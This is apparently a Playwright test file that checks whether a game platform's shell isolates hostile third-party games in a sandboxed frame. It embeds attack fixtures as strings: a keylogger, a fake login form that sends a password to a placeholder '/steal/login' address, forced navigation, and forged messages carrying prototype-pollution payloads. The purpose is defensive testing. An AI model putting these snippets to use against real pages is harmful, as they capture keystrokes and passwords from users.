import type { FrameLocator, Page, Request } from '@playwright/test';
import { newPlayer } from '../drivers/account';
import {
  entryScript,
  FIXTURE_SLOT,
  type FixtureRemote,
  gameModule,
  serveFixtures,
} from '../drivers/fixture-remote';
import { endGame, expectShellWorks, result, startGame } from '../drivers/play';
import { expect, test } from '../drivers/test';
import { attemptingGame, attempts, withAddresses } from './hostile-attempts';

// Run all tests of this file in one worker, because each test needs little processor time.
test.describe.configure({ mode: 'default', timeout: 90_000 });

/**
 * The release of a game that runs in a given place.
 * @param mount the body of its mount function.
 */
const hostile = (version: string, mount: string, place?: 'frame'): FixtureRemote => ({
  slot: FIXTURE_SLOT,
  version,
  script: entryScript(version, gameModule(mount)),
  ...(place !== undefined && { place }),
});
const framed = (version: string, mount: string) => hostile(version, mount, 'frame');

const gameFrame = (page: Page) => page.frameLocator('iframe[title="Game"]');

/**
 * Watches the requests of a page.
 * @returns a function that returns the requests to addresses with `/steal` that the browser has not blocked.
 */
function watchLeaks(page: Page): () => string[] {
  const sent: Request[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/steal')) sent.push(request);
  });
  return () =>
    sent.filter((request) => request.failure()?.errorText !== 'csp').map((request) => request.url());
}

/**
 * Plays a game that makes every attempt.
 * @returns the attempts that succeeded, and the requests to addresses with `/steal/`.
 */
async function attemptAll(page: Page, place: 'frame' | undefined) {
  const leaks = watchLeaks(page);
  page.on('dialog', (dialog) => void dialog.accept());
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await newPlayer(page);
  await serveFixtures(page, hostile('3.1.0', attemptingGame(), place));
  await startGame(page, FIXTURE_SLOT);
  const view: Page | FrameLocator = place === 'frame' ? gameFrame(page) : page;
  const pressed = attempts.filter(({ needsPress }) => needsPress).map(({ what }) => what);
  for (const [index, name] of [...pressed, 'everything else'].entries()) {
    await view.getByRole('button', { name, exact: true }).click();
    await expect(view.locator(`pre[data-done="${index + 1}"]`)).toBeAttached({ timeout: 40_000 });
  }
  const stolen: string[] = JSON.parse((await view.locator('pre').textContent()) ?? '');
  return { stolen, leaks: leaks() };
}

test('a hostile game in the page succeeds with every attempt that the page does not forbid', async ({
  page,
  pageProblems,
}) => {
  const { stolen, leaks } = await attemptAll(page, undefined);
  const leaked = new Map([
    ['a request to another site', '/steal/fetch'],
    ['a beacon', '/steal/beacon'],
  ]);
  const succeeded = attempts
    .map(({ what }) => what)
    .filter((what) => stolen.includes(what) || leaks.some((url) => url.endsWith(leaked.get(what) ?? ' ')));
  expect(succeeded).toEqual(attempts.filter(({ inPage }) => inPage === true).map(({ what }) => what));
  // Remove the reports of blocked requests, which this test expects.
  pageProblems.splice(0);
});

test('a hostile game in a frame gets no data of the player, the shell or another site', async ({
  page,
  pageProblems,
}) => {
  expect(await attemptAll(page, 'frame')).toEqual({ stolen: [], leaks: [] });
  // Remove the reports of blocked requests, which this test expects.
  pageProblems.splice(0);
});

/** A game that logs keys, takes the focus twice a second, and shows a login form that sends the password. */
const SPYING_GAME = `
  const typed = element.appendChild(document.createElement('output'));
  addEventListener('keydown', ({ key }) => { typed.textContent += key; }, true);
  const form = element.appendChild(document.createElement('form'));
  form.action = 'SHELL/steal/login';
  const label = form.appendChild(document.createElement('label'));
  label.append('Password ', Object.assign(document.createElement('input'), { name: 'password', type: 'password' }));
  form.appendChild(document.createElement('button')).append('Log in');
  const grab = element.appendChild(document.createElement('button'));
  grab.textContent = 'Grab';
  // Take the focus only twice a second. If the game took it more often, the shell would close the frame.
  grab.onclick = () => setInterval(() => { window.focus(); grab.focus(); }, 500);
  host.ready();
  return { unmount() {}, end() { host.onGameEnd({ metrics: {} }) } };`;

/**
 * Uses the pause button of the shell by keyboard while the game takes the focus.
 * @returns whether the button kept the focus.
 */
async function usePauseByKeyboard(page: Page, view: Page | FrameLocator): Promise<boolean> {
  const pause = page.getByRole('button', { name: 'Pause' });
  await view.getByRole('button', { name: 'Grab' }).click();
  await page.mouse.move(0, 0);
  await pause.focus();
  // Press a key, so that the shell knows that the player uses the keyboard. Any key would do.
  await page.keyboard.press('Shift');
  await page.waitForTimeout(1200);
  return pause.evaluate((button) => document.activeElement === button);
}

test("a hostile game in the page takes the focus, reads keys, and sends what a player types into the page's login form", async ({
  page,
}) => {
  await newPlayer(page);
  await serveFixtures(page, hostile('3.1.3', withAddresses(SPYING_GAME)));
  await startGame(page, FIXTURE_SLOT);
  await expect(page.getByRole('button', { name: 'Grab' })).toBeVisible();
  await page.getByRole('button', { name: 'Pause' }).press('x');
  expect(await usePauseByKeyboard(page, page)).toBe(false);
  await page.keyboard.press('q');
  await expect(page.locator('output').filter({ hasText: /x.*q/ })).toBeVisible();
  const sent = page.waitForRequest(/\/steal\/login\?password=secret/);
  await page.getByLabel('Password').fill('secret');
  await page.getByRole('button', { name: 'Log in', exact: true }).click();
  await sent;
});

test("a hostile game in a frame cannot keep the focus, read keys that are pressed in the shell, or send the shell's login form", async ({
  page,
  pageProblems,
}) => {
  const leaks = watchLeaks(page);
  await newPlayer(page);
  await serveFixtures(page, framed('3.1.3', withAddresses(SPYING_GAME)));
  await startGame(page, FIXTURE_SLOT);
  const view = gameFrame(page);
  await view.getByLabel('Password').fill('secret');
  await view.getByRole('button', { name: 'Log in' }).click();
  await page.getByRole('button', { name: 'Pause' }).press('x');
  expect(await usePauseByKeyboard(page, view)).toBe(true);
  await page.keyboard.press('q');
  await expect(view.locator('output')).not.toContainText(/[qx]/);
  await endGame(page);
  await expect(result(page)).toBeVisible();
  expect(leaks()).toEqual([]);
  // Remove the reports of blocked requests, which this test expects.
  pageProblems.splice(0);
});

test('a hostile game in the page can navigate the page to another site', async ({ page, pageProblems }) => {
  await newPlayer(page);
  const run = `host.ready(); location.href = 'BACKEND/steal/page'; return { unmount() {} };`;
  await serveFixtures(page, hostile('3.1.4', withAddresses(run)));
  const left = page.waitForRequest(/\/steal\/page/);
  await startGame(page, FIXTURE_SLOT);
  await left;
  pageProblems.splice(0);
});

test('a frame is closed if its game loops forever, and the shell stays usable', async ({ page }) => {
  await newPlayer(page);
  const looping = framed(
    '3.1.1',
    `const button = element.appendChild(document.createElement('button'));
     button.textContent = 'Freeze';
     button.onclick = () => { host.onScoreChange(7); setTimeout(() => { for (;;); }, 50); };
     host.ready();
     return { unmount() {} };`,
  );
  await serveFixtures(page, looping);
  await startGame(page, FIXTURE_SLOT);
  await gameFrame(page).getByRole('button', { name: 'Freeze' }).click();
  // The shell still responds while the game in the frame loops.
  await expect(page.getByRole('button', { name: 'Pause' })).toBeEnabled();
  await expect(page.locator('.play-ground iframe')).toHaveCount(0, { timeout: 10_000 });
  // Expect the points that the game reported before its endless loop began.
  await expect(result(page)).toContainText('7');
  await expectShellWorks(page);
});

/**
 * A statement that sends forged and malformed messages over the port of the frame. It takes the port from the frame's
 * own code, by replacing `postMessage`.
 */
const FORGED_MESSAGES = `
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...sent) {
    MessagePort.prototype.postMessage = post;
    const bad = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    for (const message of [
      bad, 'null', '[]', 'no JSON', { type: 'score', run: 1, total: 5 },
      '{"type":"score","run":1,"total":"5","__proto__":{"polluted":1}}',
      '{"type":"loaded","info":' + bad + ',"canPlayItself":true}',
      '{"type":"threw","run":1,"name":"' + 'x'.repeat(200) + '"}',
      '{"type":"end","run":1,"summary":{"metrics":' + bad + ',"__proto__":{"polluted":1}}}',
    ]) post.call(this, message);
    return post.apply(this, sent);
  };`;

/**
 * Attacks of a game in a frame on the page around it. If `isClosed` is true, the shell closes the frame and shows an error
 * card instead.
 */
const attacks: { does: string; run: string; isClosed: boolean }[] = [
  { does: 'navigates its frame', run: `location.href = 'BACKEND/steal'`, isClosed: true },
  {
    does: 'navigates the page, submits a form and sends messages to the window of the shell',
    run: `parent.postMessage('mindloom-frame', '*', [new MessageChannel().port1]);
          for (const message of ['{"type":"score","run":1,"total":5}', { type: 'end', run: 1 }]) top.postMessage(message, '*');
          const f = document.createElement('form'); f.action = 'BACKEND/steal'; document.body.append(f); f.submit();
          top.location.href = 'BACKEND/steal'`,
    isClosed: false,
  },
  { does: 'forges messages and pollutes prototypes with them', run: FORGED_MESSAGES, isClosed: false },
  {
    does: 'sends 2,000 messages at once',
    run: `for (let sent = 0; sent < 2000; sent += 1) host.announce('x' + sent)`,
    isClosed: true,
  },
  {
    does: 'sends a message of 500,000 characters',
    run: `host.onGameEnd({ metrics: {}, missed: 'x'.repeat(500_000) })`,
    isClosed: true,
  },
];

for (const { does, run, isClosed } of attacks) {
  test(`the shell stays on its page and stays usable if a game in a frame ${does}`, async ({
    page,
    pageProblems,
  }) => {
    const leaks = watchLeaks(page);
    await newPlayer(page);
    await serveFixtures(
      page,
      framed(
        '3.1.2',
        `element.append('Hostile'); host.ready();
         setTimeout(() => { ${withAddresses(run)} }, 300);
         return { unmount() {}, end() { host.onGameEnd({ metrics: {} }) } };`,
      ),
    );
    await startGame(page, FIXTURE_SLOT);
    if (isClosed) {
      await expect(page.getByRole('alert').filter({ hasText: 'ML-722' })).toBeVisible();
      await expect(page.locator('.play-ground iframe')).toHaveCount(0);
      await expectShellWorks(page);
    } else {
      // Look for the button in the page and in the frame separately, because a locator in a frame cannot be combined
      // with one outside of it. The game may have ended already.
      const isShown = async () =>
        (await gameFrame(page).getByText('Hostile').isVisible()) || (await result(page).isVisible());
      await expect.poll(isShown).toBe(true);
      await page.waitForTimeout(1000);
      if (!(await result(page).isVisible())) await endGame(page);
      await expect(result(page)).toBeVisible();
    }
    expect(leaks()).toEqual([]);
    expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
    // Remove the reports of blocked requests, which this test expects.
    pageProblems.splice(0);
  });
}
